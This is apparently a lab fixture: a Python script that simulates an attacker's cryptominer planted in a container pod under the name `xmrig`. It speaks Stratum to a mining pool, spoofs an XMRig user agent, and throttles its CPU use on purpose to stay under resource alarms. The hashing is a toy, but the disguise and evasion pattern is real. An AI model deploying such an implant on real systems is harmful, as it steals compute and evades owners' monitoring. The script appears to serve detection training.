#!/usr/bin/python3 -u
"""The lab's cryptominer, dropped into the console pod as `xmrig` by the attacker (stdlib only, one file).

Speaks XMRig's Stratum: login -> job, then hashes and submits shares, keeping its CPU use under
--max-cpu percent (work a slice, sleep the rest), as the 2018 miner did to stay under resource alarms.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import socket
import time
from urllib.parse import urlsplit

AGENT = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"
SLICE = 0.02  # seconds of hashing per duty cycle


def main() -> None:
    parser = argparse.ArgumentParser(prog="xmrig")
    parser.add_argument("-o", "--url", required=True)
    parser.add_argument("-u", "--user", required=True)
    parser.add_argument("--max-cpu", type=int, default=20)
    parser.add_argument("--shares", type=int, default=0, help="stop after this many accepted shares (0: never)")
    args = parser.parse_args()
    url = urlsplit(args.url)
    sock = socket.create_connection((url.hostname or "", url.port or 3333), timeout=30)
    reader = sock.makefile("rb")

    def call(ident: int, method: str, params: dict[str, object]) -> dict[str, object]:
        sock.sendall(json.dumps({"id": ident, "jsonrpc": "2.0", "method": method, "params": params}).encode() + b"\n")
        reply: dict[str, object] = json.loads(reader.readline())
        return reply

    login = call(1, "login", {"login": args.user, "pass": "x", "agent": AGENT, "algo": ["rx/0"]})
    result = login["result"]
    assert isinstance(result, dict)
    job, session = result["job"], result["id"]
    print(f"login ok, job {job['job_id']}", flush=True)
    accepted, nonce, ident = 0, 0, 2
    blob = bytes.fromhex(job["blob"])
    idle = SLICE * (100 - args.max_cpu) / max(args.max_cpu, 1)
    while not args.shares or accepted < args.shares:
        until = time.monotonic() + SLICE
        while time.monotonic() < until:
            nonce += 1
            digest = hashlib.sha256(blob + nonce.to_bytes(4, "little")).digest()
            if digest[0] == 0 and digest[1] == 0:  # about one hash in 65536 is a share
                reply = call(ident, "submit", {"id": session, "job_id": job["job_id"],
                                               "nonce": nonce.to_bytes(4, "little").hex(), "result": digest.hex()})
                ident += 1
                status = reply.get("result")
                if isinstance(status, dict) and status.get("status") == "OK":
                    accepted += 1
                    print(f"share accepted ({accepted})", flush=True)
        time.sleep(idle)


if __name__ == "__main__":
    main()
